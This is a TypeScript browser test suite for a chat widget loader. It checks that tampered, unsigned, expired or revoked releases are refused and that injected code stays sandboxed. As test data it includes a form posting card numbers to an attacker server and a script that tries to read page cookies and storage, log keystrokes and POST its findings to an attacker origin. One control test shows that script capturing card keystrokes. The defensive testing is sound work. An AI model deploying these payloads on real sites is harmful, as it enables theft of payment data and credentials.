/**
 * A release that is not in force, or not the one that was signed, does not run: tried in a real browser, against the
 * loader as it is served. Every attack has its control: the untouched release starts in the same page, and what the
 * browser stops succeeds where the tenant or the loader had not asked for it.
 */
import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, afterEach, before, beforeEach, test } from 'node:test'
import { decodeBase64, encodeBase64 } from '@candor/ledger/base64.ts'
import { verifyBundle, type ReleaseBundle } from '../../release/src/bundle.ts'
import { integrityOf, parseManifest, releaseIdOf, spellManifest } from '../../release/src/manifest.ts'
import { releaseWorld, type ReleaseWorld } from '../../release/test/release-world.ts'
import { releaseOf } from './fake-server.ts'
import { openStage, type Visitor, type WidgetStage } from './widget-page.ts'

let stage: WidgetStage
let world: ReleaseWorld
let visitor: Visitor
/** Uncaught errors and rejections of the tenant's page: whatever is served, there are none. */
let uncaught: string[]
let attacker: { origin: string; heard: string[]; server: Server }

before(async () => {
  stage = await openStage()
  world = stage.chat.world
  attacker = await openAttacker()
})
after(async () => {
  await stage.close()
  attacker.server.closeAllConnections()
  await new Promise((resolve) => attacker.server.close(resolve))
})
beforeEach(async () => {
  const { chat, host } = stage
  Object.assign(chat, {
    contained: false,
    refuseHello: null,
    bundle: world.bundle({ manifest: chat.release }),
  })
  chat.altered.clear()
  chat.approved.clear()
  chat.reports.length = chat.requests.length = chat.frames.length = attacker.heard.length = 0
  host.pinned = host.strict = true
  await newVisitor()
})
afterEach(async () => {
  assert.deepEqual(uncaught, [])
  await visitor.context.close()
})

interface TrustedTypes {
  createPolicy(
    name: string,
    rules: { createScriptURL(url: string): string },
  ): { createScriptURL(url: string): string }
}

async function newVisitor(): Promise<void> {
  visitor = await stage.visitor()
  uncaught = []
  visitor.page.on('pageerror', ({ message }) => uncaught.push(message))
}

/** Hears everything, and lets everybody say and read everything. */
async function openAttacker(): Promise<typeof attacker> {
  const heard: string[] = []
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk: Buffer) => (body += chunk.toString()))
    request.on('end', () => {
      heard.push(`${request.method} ${request.url} ${body}`)
      response.writeHead(200, {
        'access-control-allow-origin': '*',
        'allow-csp-from': '*',
        'content-type': request.url!.endsWith('.js') ? 'text/javascript' : 'text/html',
      })
      response.end(
        request.url!.endsWith('.js')
          ? `self.struck='foreign'`
          : `<p>Your card number, please<script>self.struck='led'</script>`,
      )
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard, server }
}

/** A visitor clicks, and the chat can be used. */
async function starts(): Promise<void> {
  await visitor.goto()
  const frame = await visitor.open()
  await frame.locator('textarea').fill('Hello')
}

const framesOf = (): Promise<number> =>
  visitor.page.evaluate(() => {
    const host = [...document.documentElement.children].find((each) => each.shadowRoot)
    return host?.shadowRoot?.querySelectorAll('iframe').length ?? 0
  })

/** A visitor clicks; nothing is built, and visitor, page and server are told. */
async function isRefused(why: string): Promise<void> {
  const asked = (): number => stage.chat.requests.filter(({ path }) => path.endsWith('.html')).length
  const before = asked()
  await visitor.goto()
  await visitor.launcher.click()
  await visitor.page.getByRole('status').getByText('Chat offline').waitFor()
  assert.equal(await framesOf(), 0, why)
  assert.equal(visitor.page.frames().length, 1, why)
  assert.equal(asked(), before, `no document was asked for: ${why}`)
  assert.deepEqual((await visitor.events()).at(-1), ['error', 'unverified'], why)
  await stage.chat.until(({ reports }) => reports.some(({ e }) => e === 'unverified'))
  stage.chat.reports.length = 0
}

/** A visitor clicks; there is a frame and it says nothing. */
async function isSilent(): Promise<void> {
  await visitor.goto()
  await visitor.launcher.click()
  await visitor.page.getByRole('status').getByText('Chat offline').waitFor({ timeout: 15_000 })
  assert.deepEqual((await visitor.events()).at(-1), ['error', 'unavailable'])
  await stage.chat.until(({ reports }) => reports.some(({ e }) => e === 'silent'))
}

/** What a script that should not run has left in the frame. */
const struckIn = (where: Visitor['page'] | ReturnType<Visitor['frame']>): Promise<unknown> =>
  where.evaluate(() => (self as unknown as { struck?: string }).struck ?? null)

/** The document in a frame that nobody asked to keep a policy: an attack that fails here fails of itself. */
async function inBareFrame(address: string): Promise<ReturnType<Visitor['frame']>> {
  await visitor.page.goto(stage.host.origin + '/without-tag')
  await visitor.page.evaluate((src) => {
    const frame = document.createElement('iframe')
    frame.setAttribute('sandbox', 'allow-scripts allow-forms')
    frame.src = src
    document.body.append(frame)
  }, address)
  await visitor.page.waitForTimeout(1_000)
  return visitor.page.frames()[1]!
}

const served = (name = 'en.html'): string => `${releaseIdOf(stage.chat.release)}/${name}`
const documentUrl = (): string => `${stage.chat.origin}/w/${served()}`
const originalOf = async (name: string): Promise<string> =>
  (await fetch(`${stage.chat.origin}/w/${name}`)).text()

/** Somebody between server and visitor alters a document, and drops the server's own policy while at it. */
const alterDocument = (body: string, headers: Record<string, string | null> = {}): void =>
  void stage.chat.altered.set(served(), { body, headers: { 'content-security-policy': null, ...headers } })

test('the untouched release starts, and the page is reported with it', async () => {
  await starts()
  const { chat, host } = stage
  const id = releaseIdOf(chat.release)
  await chat.until(({ reports }) => reports.some(({ m }) => m === id))
  const [first, last] = [chat.reports[0]!, chat.reports.at(-1)!]
  const { v, n, ...rest } = last
  assert.match(v, /^[0-9a-f]{8}-[0-9a-f]{4}-4/)
  assert.deepEqual([first.v, first.n], [v, n], 'one view, told of once more')
  assert.deepEqual(rest, {
    t: 'aurora-air',
    u: host.origin + '/',
    c: false,
    l: `${chat.origin}/w/${chat.loader.name}`,
    i: true,
    m: id,
    s: [`${chat.origin}/w/${chat.loader.name}`],
    e: '',
  })
  const hello = chat.frames.find((frame) => frame.type === 'hello')
  assert.equal(hello?.role === 'visitor' && hello.visit, v, 'the conversation knows its visit')
})

test('a view is reported within three seconds, again when its scripts change, and another address is another view', async () => {
  const { reports } = stage.chat
  await visitor.goto('/fares?booking=AB12CD#token')
  await stage.chat.until(() => reports.length === 1)
  await visitor.page.waitForTimeout(4_500)
  assert.equal(reports.length, 1, 'nothing new is not said twice')
  await visitor.page
    .evaluate(() => {
      const script = document.createElement('script')
      const types = (window as unknown as { trustedTypes: TrustedTypes }).trustedTypes
      script.src = types.createPolicy('late', { createScriptURL: (url) => url }).createScriptURL('/late.js')
      document.body.append(script)
    })
    .catch(() => {})
  await stage.chat.until(() => reports.length === 2)
  assert.ok(reports[1]!.s.includes(stage.host.origin + '/late.js'))
  assert.equal(reports[1]!.n, reports[0]!.n)
  await visitor.page.evaluate(() => history.pushState(null, '', '/offers?q=1'))
  await stage.chat.until(() => reports.length === 3)
  assert.equal(reports[2]!.u, stage.host.origin + '/offers')
  assert.notEqual(reports[2]!.n, reports[0]!.n)
  assert.equal(reports[2]!.v, reports[0]!.v)
  assert.doesNotMatch(JSON.stringify(reports), /AB12CD|token|q=1/)
})

test('a loader that was altered at the CDN does not run; where the tenant forgot to pin it, it does, and that is reported', async () => {
  await starts()
  const { chat, host } = stage
  const code = chat.loader.content.toString()
  chat.altered.set(chat.loader.name, { body: `self.struck='loader';${code}` })
  await visitor.page.goto(host.origin + '/')
  await visitor.page.waitForTimeout(1_000)
  assert.equal(await struckIn(visitor.page), null)
  assert.equal(await visitor.page.evaluate(() => typeof window.candor), 'undefined')
  host.pinned = false
  await visitor.goto()
  assert.equal(await struckIn(visitor.page), 'loader', 'control: without a pin it runs')
  chat.reports.length = 0
  await chat.until(({ reports }) => reports.some(({ i }) => !i))
})

test('what the loader draws with is pinned too: altered, nothing is drawn', async () => {
  await starts()
  const { file } = stage.chat.manifest.launcher
  const body = (await originalOf(file)).replace('400px', '100vw')
  assert.notEqual(body, await originalOf(file))
  stage.chat.altered.set(file, { body })
  await visitor.page.goto(stage.host.origin + '/')
  await visitor.page.waitForTimeout(1_500)
  assert.equal(await visitor.page.locator('button').count(), 0)
  await visitor.page.evaluate(() => window.candor!('show'))
  assert.equal(await framesOf(), 0)
})

test('an altered frame script does not run, and the silence is reported', async () => {
  await starts()
  const name = served('en.js')
  stage.chat.altered.set(name, { body: `self.struck='script';${await originalOf(name)}` })
  await isSilent()
  assert.equal(await struckIn(visitor.frame()), null)
})

test('an inline script in an altered document does not run, and the chat does', async () => {
  await starts()
  alterDocument(
    `${await originalOf(served())}<script>self.struck='inline'</script><img src=x onerror="self.struck='handler'">`,
  )
  await visitor.goto()
  const frame = await visitor.open()
  await visitor.page.waitForTimeout(500)
  assert.equal(await struckIn(frame), null)
  const bare = await inBareFrame(documentUrl())
  assert.match(
    String(await struckIn(bare)),
    /inline|handler/,
    'control: it runs where no policy is asked for',
  )
})

test('foreign scripts in an altered document do not run, with a digest of their own or without', async () => {
  await starts()
  const foreign = `self.struck='foreign'`
  const integrity = integrityOf(Buffer.from(foreign))
  const body = [
    `<!doctype html><script src="${attacker.origin}/foreign.js"></script>`,
    `<script src="${attacker.origin}/foreign.js" crossorigin integrity="${integrity}"></script>`,
    `<script src="${stage.chat.origin}/w/foreign.js" crossorigin integrity="${integrity}"></script>`,
    `<script type="module">import '${attacker.origin}/foreign.js'</script>`,
  ].join('')
  stage.chat.altered.set('foreign.js', { body: foreign, type: 'text/javascript' })
  alterDocument(body)
  await isSilent()
  assert.equal(await struckIn(visitor.frame()), null)
  const bare = await inBareFrame(documentUrl())
  assert.equal(await struckIn(bare), 'foreign', 'control: they run where no policy is asked for')
})

test('a document that does not accept the policy is not shown', async () => {
  await starts()
  alterDocument(await originalOf(served()), { 'allow-csp-from': null })
  await isSilent()
  const shown = visitor.page.frames()[1]!
  assert.doesNotMatch(shown.url(), /en\.html/)
  const bare = await inBareFrame(documentUrl())
  assert.equal(bare.url(), documentUrl(), 'control: it is shown where no policy is asked for')
})

test('a form in an altered document can be shown, and posts nowhere', async () => {
  // A tenant's own `frame-src` stops it too; not every tenant has one.
  stage.host.strict = false
  await starts()
  const form = `<form method="post" action="${attacker.origin}/steal"><input name="card"><button>Pay</button></form>`
  alterDocument(`<!doctype html>${form}`)
  await visitor.goto()
  await visitor.launcher.click()
  const frame = await visitor.built()
  const post = async (where: typeof frame): Promise<void> => {
    await where.locator('input').fill('4111111111111111')
    await where.locator('button').click()
    await visitor.page.waitForTimeout(500)
  }
  await post(frame)
  assert.deepEqual(attacker.heard, [])
  await post(await inBareFrame(documentUrl()))
  assert.deepEqual(
    attacker.heard,
    ['POST /steal card=4111111111111111'],
    'control: it posts where no policy is asked for',
  )
})

test('an altered document that leads elsewhere leads to no script and to no other server', async () => {
  stage.host.strict = false
  await starts()
  alterDocument(`<!doctype html><meta http-equiv="refresh" content="0;url=${attacker.origin}/page">`)
  await isSilent()
  const frame = visitor.page.frames()[1]!
  assert.equal(frame.url(), attacker.origin + '/page', 'it can be led to what somebody else shows')
  await assert.rejects(frame.evaluate((to) => fetch(to).then(() => {}), attacker.origin + '/from-page'))
  assert.equal(await struckIn(frame), null)
  assert.ok(!attacker.heard.some((line) => line.includes('from-page')))
  const bare = await inBareFrame(documentUrl())
  assert.equal(await struckIn(bare), 'led', 'control: its script runs where no policy is asked for')
})

/** One bit of what base64 stands for. */
function flipped(text: string): string {
  const bytes = decodeBase64(text)!
  bytes[7]! ^= 1
  return encodeBase64(bytes)
}

/** Serves what `alter` makes of a good bundle. */
function serve(alter: (bundle: ReleaseBundle) => void): void {
  const bundle = structuredClone(world.bundle({ manifest: stage.chat.release }))
  alter(bundle)
  stage.chat.bundle = bundle
}

/** Another release, rightly signed by two. */
const another = (more: object): string => {
  const manifest = parseManifest(stage.chat.release)!
  return spellManifest({ ...manifest, ...more })
}

const hourMs = 3_600_000

/** By name: what is served instead of the release in force. The loader builds nothing of any of them. */
const refused: Record<string, () => void> = {
  'a manifest that was swapped for one that nobody signed': () =>
    serve((bundle) => (bundle.m = another({ version: '6.6.6' }))),
  'a manifest that was swapped for another that was signed, with the proof of the first': () =>
    serve((bundle) => {
      bundle.m = another({ version: '0.0.9' })
      bundle.s.splice(0, 3, ...world.sign(bundle.m))
    }),
  'a policy that was widened in a signed manifest': () =>
    serve((bundle) => (bundle.m = bundle.m.replace(`'none'`, `*`))),
  'a release that is replayed after it expired': () => {
    const issued = new Date(Date.now() - 7 * 24 * hourMs).toISOString()
    stage.chat.bundle = world.bundle({ manifest: another({ issued, expires: Date.now() - 1_000 }) })
  },
  'a release that one key alone signed': () => {
    const { release } = stage.chat
    stage.chat.bundle = world.bundle({ manifest: release, signatures: world.sign(release, [2]) })
  },
  'a release that one key signed twice': () => serve((bundle) => (bundle.s[1] = bundle.s[0]!)),
  'a release that nobody signed': () => serve((bundle) => bundle.s.fill('', 0, 3)),
  'a checkpoint without the witness': () => serve((bundle) => (bundle.s[4] = '')),
  'a checkpoint that the witness signed for another time': () => serve((bundle) => bundle.t[0]!++),
  'a checkpoint whose witness is left out of the keys': () =>
    serve((bundle) => {
      bundle.k.length = bundle.s.length = 4
      bundle.t = []
    }),
  'a checkpoint that the log did not sign': () => serve((bundle) => (bundle.s[3] = flipped(bundle.s[3]!))),
  'a checkpoint of another log, under the same key and cosigned by the same witness': () =>
    (stage.chat.bundle = world.bundle({ manifest: stage.chat.release, origin: 'evil.example/log' })),
  'a forged proof': () =>
    serve(
      (bundle) =>
        (bundle.p = bundle.p.map(([left, right]) => [left && flipped(left), right && flipped(right)])),
    ),
  'a proof whose sides are swapped': () =>
    serve((bundle) => (bundle.p = bundle.p.map(([left, right]) => [right, left]))),
  'a proof that is cut short': () => serve((bundle) => bundle.p.pop()),
  'the root of a tree in which it is not': () => {
    const request = releaseIdOf(another({ version: '0.0.9' }))
    const at = new Date().toISOString()
    serve((bundle) => {
      const other = world.bundle({ entry: { v: 1, at, type: 'release', outcome: 'in-force', request } })
      Object.assign(bundle, { c: other.c, t: other.t })
      bundle.s.splice(3, 2, ...other.s.slice(3))
    })
  },
  'an entry that is older than a day': () => {
    const at = new Date(Date.now() - 24 * hourMs - 60_000).toISOString()
    stage.chat.bundle = world.bundle({ manifest: stage.chat.release, at })
  },
  'an entry of the future': () => {
    const at = new Date(Date.now() + hourMs + 60_000).toISOString()
    stage.chat.bundle = world.bundle({ manifest: stage.chat.release, at })
  },
  'an old entry that is made young': () => {
    const at = new Date(Date.now() - 48 * hourMs).toISOString()
    serve((bundle) =>
      Object.assign(bundle, world.bundle({ manifest: stage.chat.release, at }), { a: bundle.a }),
    )
  },
  'a revoked release, whose newest entry says so': () => {
    const at = new Date().toISOString()
    const request = releaseIdOf(stage.chat.release)
    stage.chat.bundle = world.bundle({
      manifest: stage.chat.release,
      at,
      entry: { v: 1, at, type: 'release', outcome: 'revoked', request },
    })
  },
  'a revoked release, a day after its last entry in force': () => {
    // The keyholder refuses every later one, so this is the youngest that can be replayed.
    const at = new Date(Date.now() - 24 * hourMs - 1_000).toISOString()
    stage.chat.bundle = world.bundle({ manifest: stage.chat.release, at })
  },
  'a release of somebody else’s keys, log and witness': () => {
    const other = releaseWorld(Date.now())
    stage.chat.bundle = other.bundle({ manifest: releaseOf(other, stage.chat.manifest) })
  },
  'keys that are moved to other places': () =>
    serve((bundle) => {
      const [first, second, ...rest] = bundle.k
      bundle.k = [`${first},${second}`, ...rest]
    }),
  'keys in a list within the list': () =>
    serve((bundle) => ((bundle.k as unknown[]) = [[bundle.k[0], bundle.k[1]], ...bundle.k.slice(2)])),
  'no bundle': () => (stage.chat.bundle = {}),
  'a bundle that is a list': () => (stage.chat.bundle = []),
  'a bundle that is nothing': () => (stage.chat.bundle = null),
  'a bundle that is no JSON': () => void stage.chat.altered.set('release.json', { body: '<html>Sign in' }),
  'a manifest that is no JSON': () => serve((bundle) => (bundle.m = 'x')),
  'a bundle without signatures': () =>
    serve((bundle) => ((bundle as Partial<ReleaseBundle>).s = undefined as never)),
  'signatures that are no text': () => serve((bundle) => (bundle.s = bundle.s.map(() => 1 as never))),
}

for (const [what, attack] of Object.entries(refused))
  test(`refused: ${what}`, async () => {
    attack()
    await isRefused(what)
    stage.chat.bundle = world.bundle({ manifest: stage.chat.release })
    stage.chat.altered.clear()
    // The same page, without loading it again: what was refused is asked for again with the next click.
    await visitor.launcher.click()
    await (await visitor.built()).locator('textarea').waitFor()
  })

test('two of three signatures are enough, whichever two', async () => {
  const { release } = stage.chat
  for (const by of [
    [0, 2],
    [1, 2],
  ]) {
    stage.chat.bundle = world.bundle({ manifest: release, signatures: world.sign(release, by) })
    await starts()
  }
})

const lacking: Record<string, () => void> = {
  Ed25519: () => {
    const { importKey } = SubtleCrypto.prototype
    Object.assign(SubtleCrypto.prototype, {
      importKey(this: SubtleCrypto, ...given: Parameters<typeof importKey>) {
        return given[2] === 'Ed25519'
          ? Promise.reject(new DOMException('Unrecognized name.', 'NotSupportedError'))
          : importKey.apply(this, given)
      },
    })
  },
  'base64 of bytes': () => {
    delete (Uint8Array as { fromBase64?: unknown }).fromBase64
  },
}

for (const [what, without] of Object.entries(lacking))
  test(`a browser without ${what} starts nothing unverified`, async () => {
    await starts()
    await visitor.context.close()
    await newVisitor()
    await visitor.context.addInitScript(without)
    await isRefused(what)
  })

test('where the kill switch is thrown the widget goes without a word, and is asked by tenant and page', async () => {
  await starts()
  stage.chat.contained = true
  const asked = visitor.page.waitForRequest(/release\.json/)
  await visitor.goto('/fares')
  await visitor.launcher.click()
  const { searchParams } = new URL((await asked).url())
  assert.deepEqual(
    [...searchParams],
    [
      ['t', 'aurora-air'],
      ['u', stage.host.origin + '/fares'],
    ],
  )
  await visitor.launcher.waitFor({ state: 'detached' })
  assert.equal(await framesOf(), 0)
  assert.ok(!(await visitor.events()).some(([type]) => type === 'error'))
  stage.chat.contained = false
  await starts()
})

test('a frame whose server says that it is contained goes, before the welcome and after', async () => {
  stage.chat.refuseHello = 'contained'
  await visitor.goto()
  await visitor.launcher.click()
  await visitor.launcher.waitFor({ state: 'detached' })
  stage.chat.refuseHello = null
  await starts()
  stage.chat.broadcast({ type: 'goodbye', code: 'contained', message: '', retryAfterMs: 1_000 })
  await visitor.launcher.waitFor({ state: 'detached' })
  assert.equal(await framesOf(), 0)
})

/** What whoever holds the keys puts into the frame: it tries everything, and tells the attacker what it got. */
const stolenScript = (attackerOrigin: string): string => `
  const got = {}
  const tell = () => fetch('${attackerOrigin}/got', { method: 'POST', body: JSON.stringify(got) })
  const reach = (name, what) => { try { got[name] = String(what()) } catch (fault) { got[name] = fault.name } }
  reach('parent', () => parent.document.querySelector('input').value)
  reach('top', () => top.document.cookie)
  reach('opener', () => opener.document)
  reach('sibling', () => parent.frames[1].document)
  reach('cookie', () => document.cookie)
  reach('local', () => localStorage.length)
  reach('session', () => sessionStorage.length)
  reach('indexedDB', () => indexedDB.open('x').readyState)
  reach('navigate', () => { top.location = '${attackerOrigin}/phish' })
  reach('frameElement', () => frameElement.ownerDocument)
  reach('window', () => open('${attackerOrigin}/popup'))
  got.keys = ''
  for (const type of ['keydown', 'keypress', 'input', 'paste', 'beforeinput'])
    addEventListener(type, (event) => { got.keys += event.key ?? event.data ?? '?'; tell() }, true)
  const box = document.createElement('input')
  document.documentElement.append(box)
  const steal = () => { window.focus(); box.focus() }
  addEventListener('blur', steal)
  setInterval(steal, 2)
  addEventListener('message', ({ data, ports: [port] }) => {
    got.boot = typeof data
    if (!port) return
    port.onmessage = ({ data }) => { got.told = (got.told ?? '') + JSON.stringify(data) }
    // Everything that a frame may say, and everything that it may not.
    for (const said of [['ready', '#ff0000'], ['show'], ['open'], ['boot'], ['constructor', 'alert(1)'], ['__defineGetter__', 'x'],
      ['page', 1], ['toString'], ['emit', 'open'], 7, null, ['link', 'javascript:alert(1)'], ['unread', '<img src=x onerror=alert(1)>', 'x']])
      try { port.postMessage(said) } catch {}
    parent.postMessage({ type: 'value', selector: 'input' }, '*')
  })
  setTimeout(tell, 300)
`

/** Signed by two, cosigned, logged: the attacker holds every key and lets it be published as any other. */
function stolenRelease(): string {
  const script = Buffer.from(stolenScript(attacker.origin))
  const html = `<!doctype html><script src="en.js" crossorigin integrity="${integrityOf(script)}"></script>`
  const release = releaseOf(world, {
    files: { 'en.html': integrityOf(Buffer.from(html)), 'en.js': integrityOf(script) },
    csp: `default-src 'none'; script-src '${integrityOf(script)}'; connect-src ${attacker.origin}`,
  })
  const id = releaseIdOf(release)
  stage.chat.altered.set(`${id}/en.html`, { body: html, headers: { 'content-security-policy': null } })
  stage.chat.altered.set(`${id}/en.js`, { body: script.toString() })
  return release
}

const gotBy = (): Record<string, string> =>
  Object.assign(
    {},
    ...attacker.heard
      .flatMap((line) => /^POST \/got (.*)$/.exec(line)?.[1] ?? [])
      .map((body) => JSON.parse(body) as object),
  ) as Record<string, string>

test('with all keys stolen the code runs, alone in its frame: the card field, cookies and storage of the page are out of its reach', async () => {
  await starts()
  const release = stolenRelease()
  stage.chat.bundle = world.bundle({ manifest: release })
  await visitor.page.goto(stage.host.origin + '/checkout')
  await visitor.page.evaluate(() => {
    document.cookie = 'basket=full'
    localStorage.setItem('secret', 'of the page')
  })
  await visitor.goto('/checkout')
  await visitor.launcher.click()
  await stage.chat.until(() => 'keys' in gotBy())
  const { keys, told, ...reached } = gotBy()
  assert.deepEqual(
    reached,
    {
      parent: 'SecurityError',
      top: 'SecurityError',
      opener: 'TypeError',
      sibling: 'SecurityError',
      cookie: 'SecurityError',
      local: 'SecurityError',
      session: 'SecurityError',
      indexedDB: 'SecurityError',
      navigate: 'SecurityError',
      frameElement: 'TypeError',
      window: 'null',
      boot: 'object',
    },
    'it ran, and this is what it got',
  )
  assert.equal(keys, '')
  assert.doesNotMatch(String(told), /basket|secret|of the page/)
  // It has the panel, as a frame does, and takes the focus whenever it can; the visitor goes on to pay.
  const field = visitor.page.locator('input[name=card]')
  await field.click()
  await visitor.page.keyboard.type('4111111111111111', { delay: 25 })
  await visitor.page.waitForTimeout(300)
  assert.equal(await field.inputValue(), '4111111111111111', 'every key went where it was meant to go')
  assert.equal(gotBy()['keys'], '', 'and none to the frame')
  assert.equal(new URL(visitor.page.url()).pathname, '/checkout')
  assert.ok(!attacker.heard.some((line) => /phish|popup|4111|411/.test(line)), attacker.heard.join('\n'))
  assert.equal(await framesOf(), 0, 'there is no frame of ours while somebody types where cards are typed')
})

test('a frame of a payment provider that gets the focus from the page ends ours', async () => {
  const { host, chat } = stage
  host.strict = false
  host.pages.set(
    '/provider',
    `<main><iframe title="Secure card payment input frame" src="${attacker.origin}"></iframe></main>`,
  )
  chat.approved.add(host.origin + '/provider')
  await visitor.goto('/provider')
  await visitor.open()
  await visitor.page.mouse.click(600, 300)
  assert.equal(await framesOf(), 1)
  await visitor.page.mouse.click(100, 60)
  await visitor.page.waitForFunction(() => document.activeElement?.tagName === 'IFRAME')
  assert.equal(await framesOf(), 0)
})

test('control: in a frame of any other kind the same code takes the keys of the card field', async () => {
  stolenRelease()
  const id = releaseIdOf(stolenRelease())
  await visitor.page.goto(stage.host.origin + '/checkout')
  await visitor.page.evaluate((src) => {
    const frame = document.createElement('iframe')
    frame.setAttribute('sandbox', 'allow-scripts allow-forms')
    frame.style.display = 'none'
    frame.src = src
    document.body.append(frame)
  }, `${stage.chat.origin}/w/${id}/en.html`)
  await visitor.page.waitForTimeout(800)
  await visitor.page.locator('input[name=card]').click()
  await visitor.page.waitForTimeout(200)
  await visitor.page.keyboard.type('4111111111111111', { delay: 25 })
  await visitor.page.waitForTimeout(300)
  assert.match(gotBy()['keys']!, /4?1{10}/)
})

test('a stolen release starts with its entry in the log or not at all, so it can be found there for ever', async () => {
  const release = stolenRelease()
  const id = releaseIdOf(release)
  const bundle = world.bundle({ manifest: release })
  const checked = verifyBundle(structuredClone(bundle), world.pin, Date.now())
  assert.deepEqual(checked.kind === 'valid' && [checked.id, checked.at], [id, bundle.a])
  // The same signatures, and the log as it is without it.
  const good = world.bundle({ manifest: stage.chat.release })
  stage.chat.bundle = {
    ...bundle,
    a: good.a,
    p: good.p,
    c: good.c,
    t: good.t,
    s: [...bundle.s.slice(0, 3), ...good.s.slice(3)],
  }
  await isRefused('signed by stolen keys, and in no log')
  stage.chat.bundle = bundle
  await visitor.launcher.click()
  await stage.chat.until(() => 'keys' in gotBy())
})

test('a stolen release cannot open its panel, nor lay it over the page', async () => {
  stage.chat.bundle = world.bundle({ manifest: stolenRelease() })
  await visitor.page.goto(stage.host.origin + '/')
  await visitor.page.evaluate(() => localStorage.setItem('candor:aurora-air', 'token'))
  await visitor.goto()
  await stage.chat.until(() => 'keys' in gotBy())
  assert.equal(await framesOf(), 1, 'a returning visitor’s frame is there, hidden')
  assert.equal(await visitor.page.locator('iframe').isVisible(), false)
  await visitor.launcher.click()
  const { width, height } = (await visitor.page.locator('iframe').boundingBox())!
  assert.deepEqual([width, height], [400, 608])
})
